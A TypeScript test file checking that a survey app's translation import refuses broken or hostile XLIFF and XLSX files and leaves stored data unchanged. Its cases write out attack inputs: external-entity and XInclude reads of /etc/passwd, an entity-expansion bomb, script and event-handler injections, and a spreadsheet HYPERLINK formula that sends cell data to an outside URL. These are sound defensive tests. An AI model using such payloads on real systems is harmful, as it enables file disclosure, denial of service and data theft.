/**
 * Broken, hostile or wrong translation files are refused whole with a clear message, and nothing
 * changes: not the stored edition, not its file.
 */
import t, { type Test } from 'tap';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { ValidationError } from '../../server/errors.ts';
import { applyImport, exportTranslation } from '../../server/translations/translation-service.ts';
import { readXliff, writeXliff } from '../../server/translations/xliff-format.ts';
import { differences, storedTexts, translationApp } from './translation-fixture.ts';

const { app, surveysDir, ctx } = await translationApp(t);
const before = await storedTexts(app);
const fileBefore = await readFile(join(surveysDir, 'jpp-experience', '2022.json'), 'utf8');
const xliff = (await exportTranslation(ctx, { surveyId: 'jpp-experience', edition: '2022', language: 'sk', format: 'xliff' })).body.toString('utf8');

/** The exported file with one unit's translation replaced (escaped as a tool would). */
function withTarget(id: string, target: string): string {
  const doc = readXliff(xliff);
  doc.units.find((u) => u.id === id)!.target = target;
  return writeXliff(doc);
}

async function refused(t: Test, bytes: string | Buffer, pattern: RegExp) {
  const err = await applyImport(ctx, Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'utf8'), 'cli').then(() => undefined, (e: unknown) => e);
  t.ok(err instanceof ValidationError, 'refused with a validation error');
  t.match(JSON.stringify((err as ValidationError).details), pattern);
  t.same(differences(before, await storedTexts(app)), [], 'the stored edition is unchanged');
  t.equal(await readFile(join(surveysDir, 'jpp-experience', '2022.json'), 'utf8'), fileBefore, 'the edition file is unchanged');
}

const CASES: [string, () => string | Buffer | Promise<Buffer>, RegExp][] = [
  ['broken XML', () => xliff.slice(0, xliff.length / 2), /not well-formed XML/],
  ['an external entity', () => xliff.replace('<xliff', '<!DOCTYPE xliff [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<xliff').replace('Súhlasím<', '&x;<'), /document type/],
  ['a billion laughs', () => xliff.replace('<xliff', '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>\n<xliff'), /document type/],
  ['an undeclared entity', () => xliff.replace('Súhlasím<', '&nbsp;Súhlasím<'), /the entity .{0,3}&nbsp;/],
  ['an XInclude', () => xliff.replace('<body>', '<body><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'), /external document/],
  ['markup inside a target', () => xliff.replace('>Súhlasím<', '><g id="1">Súhlasím</g><'), /XML markup/],
  ['a script in a translation', () => withTarget('q.privacy_notice.html', '<p>Ahoj</p><script>alert(1)</script>'), /script/],
  ['an event handler', () => withTarget('q.privacy_notice.html', '<p onclick="alert(1)">Ahoj</p>'), /event handler|attributes/],
  ['HTML in a plain text', () => withTarget('page.organisation.title', 'O <b>vašej</b> organizácii'), /not allowed here/],
  ['a tag outside the allow-list', () => withTarget('q.privacy_notice.html', '<p>Ahoj <table>x</table></p>'), /<table> is not allowed/],
  ['an empty translation', () => withTarget('page.organisation.title', '  '), /empty/],
  ['a translation far longer than its source', () => withTarget('page.organisation.title', 'O vašej organizácii '.repeat(10)), /times longer or shorter/],
  ['a translation left in English', () => withTarget('page.organisation.title', 'About your organisation'), /is the English text/],
  ['an unknown id', () => xliff.replace('id="page.organisation.title"', 'id="page.nowhere.title"'), /unknown id/],
  ['missing units', () => xliff.replace(/<trans-unit id="page\.organisation\.title"[\s\S]*?<\/trans-unit>/, ''), /missing from the file/],
  ['an edited source', () => xliff.replace('<source>About your organisation</source>', '<source>About you</source>'), /English text differs/],
  ['an edition that does not exist', () => xliff.replace('original="jpp-experience/2022"', 'original="jpp-experience/1999"'), /does not exist/],
  ['a language that is not translated', () => xliff.replace('target-language="sk"', 'target-language="en"'), /English is the source/],
  ['not XLIFF', () => '<html><body>hi</body></html>', /not XLIFF/],
  ['a lost placeholder', () => withTarget('survey.description', readXliff(xliff).units.find((u) => u.id === 'survey.description')!.target + ' {x}'), /placeholders/],
];

for (const [name, make, pattern] of CASES) {
  t.test(`refused: ${name}`, async (t) => refused(t, await make(), pattern));
}

async function xlsxWith(edit: (sheet: ExcelJS.Worksheet) => void): Promise<Buffer> {
  const body = (await exportTranslation(ctx, { surveyId: 'jpp-experience', edition: '2022', language: 'sk', format: 'xlsx' })).body;
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  edit(wb.getWorksheet('Translation')!);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

t.test('refused: a formula cell in XLSX', async (t) => refused(t, await xlsxWith((s) => {
  s.getCell('D5').value = { formula: 'HYPERLINK("https://example.org/?"&C5,"click")' } as ExcelJS.CellFormulaValue;
}), /formula/));
t.test('refused: a formula cell outside the translation column', async (t) => refused(t, await xlsxWith((s) => {
  s.getCell('F9').value = { formula: '1+1' } as ExcelJS.CellFormulaValue;
}), /formula/));
t.test('refused: a file that is not a workbook although it starts like a zip', async (t) => refused(t, Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100)]), /not an XLSX workbook/));
